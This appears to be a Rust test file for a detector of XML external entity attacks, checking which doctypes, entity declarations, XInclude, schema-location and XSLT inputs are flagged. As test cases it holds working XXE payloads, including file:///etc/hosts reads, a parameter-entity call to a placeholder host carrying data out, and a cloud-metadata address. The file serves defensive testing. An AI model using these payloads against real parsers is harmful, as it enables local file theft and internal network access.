use super::*;
use crate::rule::exercise::{exercise, first, work_ends};

fn found(input: &[u8]) -> Option<Match> {
    first(&RULES, &Text::value(input))
}

#[test]
fn declarations_that_reach_out_are_told_from_those_that_do_not() {
    let cases: [(&str, Option<&str>); 30] = [
        ("<!DOCTYPE html>", None),
        ("<!DOCTYPE html SYSTEM 'about:legacy-compat'>", None),
        (
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \
             \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            None,
        ),
        (
            "<!DOCTYPE a SYSTEM \"http://e.example/a.dtd\">",
            Some("xxe.external_subset"),
        ),
        (
            "<!DOCTYPE a PUBLIC \"x\" 'http://w3.org.e.example/a.dtd'>",
            Some("xxe.external_subset"),
        ),
        (
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>",
            Some("xxe.external_entity"),
        ),
        (
            "<!DOCTYPE a [<!ENTITY % b SYSTEM '//host/b'> %b;]>",
            Some("xxe.external_entity"),
        ),
        ("<!DOCTYPE a [<!ENTITY b \"text &amp; more\">]>", None),
        ("<!DOCTYPE a [<!ENTITY b \"&c; &d;\">]>", None),
        (
            "<!DOCTYPE a [<!ENTITY b \"&c;&c;&c;\">]>",
            Some("xxe.entity_expansion"),
        ),
        (
            "<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'http://e.example/?%c;'>\">",
            Some("xxe.nested_declaration"),
        ),
        ("how does <!ENTITY name SYSTEM work", None),
        ("<xi:include href=\"chapter2.xml\"/>", None),
        (
            "<xi:include parse=\"text\" href=\"file:///etc/hosts\"/>",
            Some("xxe.inclusion"),
        ),
        (
            "<a:include xmlns:a='http://www.w3.org/2001/XInclude' href='/etc/x'/>",
            Some("xxe.inclusion"),
        ),
        (
            "<xs:import namespace=\"http://a.example/ns\" schemaLocation=\"ns.xsd\"/>",
            None,
        ),
        (
            "<xs:import schemaLocation=\"http://10.0.0.1/ns.xsd\"/>",
            Some("xxe.inclusion"),
        ),
        (
            "<p xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 \
             https://maven.apache.org/xsd/maven-4.0.0.xsd\">",
            None,
        ),
        (
            "<p xsi:schemaLocation=\"a http://169.254.169.254/x\">",
            Some("xxe.schema_location"),
        ),
        (
            "<p xsi:noNamespaceSchemaLocation=\"file:///etc/hosts\">",
            Some("xxe.schema_location"),
        ),
        ("<p xsi:noNamespaceSchemaLocation=\"order.xsd\">", None),
        ("+ADwAIQ-ENTITY a SYSTEM", Some("xxe.utf7")),
        (
            "<!ENTITY%a SYSTEM 'ftp://e.example/'>",
            Some("xxe.external_entity"),
        ),
        (
            "<!ENTITY a SYSTEM file:///etc/hosts>",
            Some("xxe.external_entity"),
        ),
        (
            "<xsl:copy-of select=\"document('/etc/hosts')\"/>",
            Some("xxe.inclusion"),
        ),
        ("<xsl:copy-of select=\"document('labels.xml')\"/>", None),
        ("d = document('http://e.example/')", None),
        (
            "<!ENTITY a SYSTEM \\\"file:///etc/hosts\\\">",
            Some("xxe.external_entity"),
        ),
        (
            "<include href='/etc/hosts' xmlns='http://www.w3.org/2001/XInclude'/>",
            Some("xxe.inclusion"),
        ),
        (
            "<include href='a.xml' xmlns='http://www.w3.org/2001/XInclude'/>",
            None,
        ),
    ];
    for (input, rule) in cases {
        assert_eq!(
            found(input.as_bytes()).map(|m| m.rule.as_str()),
            rule,
            "{input}"
        );
    }
}

/// Nonsense of the family's own characters.
#[test]
fn any_bytes_are_read_without_panic() {
    exercise(
        &RULES,
        &[
            "<!DOCTYPE ",
            "<!ENTITY ",
            "% ",
            "a ",
            "SYSTEM ",
            "PUBLIC ",
            "\"",
            "'",
            "[",
            "]",
            ">",
            "<",
            "/",
            ":",
            "file:///",
            "http://",
            "e.example",
            ".dtd",
            "&a;",
            "&#x25;",
            "&",
            ";",
            "<xi:include ",
            "href=",
            "<xs:import ",
            "schemaLocation=",
            "xsi:",
            " ",
            "\n",
            "\0",
            "+ADwAIQ-",
            "ENTITY",
            "document('",
            "select=\"",
            "\u{e9}",
            "\\",
            "=",
            "x",
        ],
    );
}

/// Costs the most and matches nothing.
const ATTACK: &str = "<!ENTITY a '&b; &c;' ";

/// Once the event's share of work is used up nothing is read any more.
#[test]
fn work_is_bounded_by_effort() {
    work_ends(&RULES, ATTACK);
}
